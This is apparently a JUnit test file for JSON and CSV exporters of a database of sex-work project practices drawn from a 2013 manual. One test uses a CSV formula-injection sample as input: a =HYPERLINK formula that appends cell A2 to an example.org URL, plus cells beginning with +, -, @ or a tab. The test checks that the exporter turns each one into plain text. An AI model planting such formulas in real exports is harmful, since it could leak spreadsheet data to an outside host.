package org.practicefinder.opendata;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.StringReader;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.practicefinder.index.PracticeRecord;
import org.practicefinder.ingest.ManualParser;
import org.practicefinder.ingest.PracticeFile;
import org.practicefinder.model.Practice;
import org.practicefinder.taxonomy.Tagger;
import org.practicefinder.taxonomy.Vocabulary;

/** The open-data writers on the real manual: JSON that reads back unchanged, and CSV. */
class OpenDataTest {
  private static final Tagger TAGGER = new Tagger(Vocabulary.load());
  private static List<PracticeRecord> records;

  @BeforeAll
  static void tag() throws Exception {
    records = tagged(new ManualParser().parseFolder(Path.of("seeds")));
  }

  private static List<PracticeRecord> tagged(List<Practice> practices) {
    List<PracticeRecord> out = new ArrayList<>();
    for (int i = 0; i < practices.size(); i++) out.add(new PracticeRecord(i, practices.get(i), TAGGER.tag(practices.get(i))));
    return out;
  }

  @Test
  void anExportReadsBackUnchanged() {
    String exported = PracticeJson.write(records);
    PracticeFile.Result back = new PracticeFile().read("export.json", exported, Set.of());
    assertEquals(List.of(), back.errors());
    assertEquals(39, back.practices().size());
    assertEquals(exported, PracticeJson.write(tagged(back.practices())));
  }

  @Test
  void eachPracticeCitesTheManual() {
    var ua2a = PracticeJson.toJson(records.get(1)).getAsJsonObject("source");
    assertEquals("Manual of Good Practices on Sex Work Projects in Ukraine and the Russian Federation", ua2a.get("title").getAsString());
    assertEquals("TAMPEP International Foundation for the CONECTA project", ua2a.get("publisher").getAsString());
    assertEquals(2013, ua2a.get("year").getAsInt());
    assertEquals("Collection of Good Practices, Ukraine, practice 2.a", ua2a.get("section").getAsString());
  }

  /** @return the records as {@code csv} writes them, read back by their header */
  private static List<CSVRecord> rows(PracticeCsv csv, List<PracticeRecord> written) throws Exception {
    StringBuilder out = new StringBuilder();
    csv.write(written, out);
    return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(out.toString())).getRecords();
  }

  @Test
  void csvHasOneRowPerPracticeWithFacetsAsIds() throws Exception {
    PracticeCsv csv = new PracticeCsv(List.of("population", "setting", "year"));
    List<CSVRecord> rows = rows(csv, records);
    assertEquals(39, rows.size());
    assertEquals(List.of("id", "title", "organisation", "country", "locations", "scope", "url", "contact", "language",
        "population", "setting", "year", "challenge", "action", "steps", "outcomes", "lessons", "notes", "source_title",
        "source_publisher", "source_year", "source_section", "source_url"), csv.header());
    CSVRecord ua1 = rows.get(0);
    assertEquals("UA-1", ua1.get("id"));
    assertEquals("female;mothers", ua1.get("population"));
    assertEquals("", ua1.get("setting"));
    assertEquals("2009", ua1.get("year"));
    assertEquals("Vinnytsia", ua1.get("locations"));
    assertEquals("2013", ua1.get("source_year"));
    CSVRecord ru5 = rows.stream().filter(r -> r.get("id").equals("RU-5")).findFirst().orElseThrow();
    assertEquals("indoor;escort;online", ru5.get("setting"));
    assertEquals("Saint Petersburg", ru5.get("locations"));
    assertTrue(ru5.get("steps").contains("\n"), "list items one a line"); // quoted, so the row stays one record
    assertEquals(records.get(24).practice().text(org.practicefinder.model.Section.STEPS).orElseThrow(), ru5.get("steps"));
  }

  @Test
  void csvCellsThatSpreadsheetsWouldRunAsFormulasAreText() throws Exception {
    // An added practice's fields as a contributor may write them: a formula, a name and an address
    // beginning with + or -, a section written as a dash list, a step beginning with @.
    String file = """
        [{"id": "UA-night-line-kyiv", "title": "=HYPERLINK(\\"https://example.org/?d=\\"&A2,\\"Details\\")",
          "organisation": "+Plus Foundation", "country": "Ukraine", "contact": "-help@example.org",
          "sections": {"challenge": "- no services at night; - police raids", "action": "Peers answer a phone line.",
                       "steps": ["@home visits", "a second step"]}}]""";
    PracticeFile.Result added = new PracticeFile().read("added.json", file, Set.of());
    assertEquals(List.of(), added.errors());
    CSVRecord row = rows(new PracticeCsv(List.of("population")), tagged(added.practices())).get(0);
    Map<String, String> cells = Map.of("id", "UA-night-line-kyiv", "country", "Ukraine", "action", "Peers answer a phone line.",
        "title", "'=HYPERLINK(\"https://example.org/?d=\"&A2,\"Details\")", "organisation", "'+Plus Foundation",
        "contact", "'-help@example.org", "challenge", "'- no services at night; - police raids", "steps", "'@home visits\na second step");
    cells.forEach((column, cell) -> assertEquals(cell, row.get(column), column));
    // a file's text is trimmed, so a leading tab or carriage return reaches the writer only from elsewhere
    for (String cell : List.of("\t=1+1", "\r=1+1")) assertEquals("'" + cell, PracticeCsv.text(cell));
    for (String cell : List.of(" =1+1", "UA-1", "")) assertEquals(cell, PracticeCsv.text(cell));
  }
}
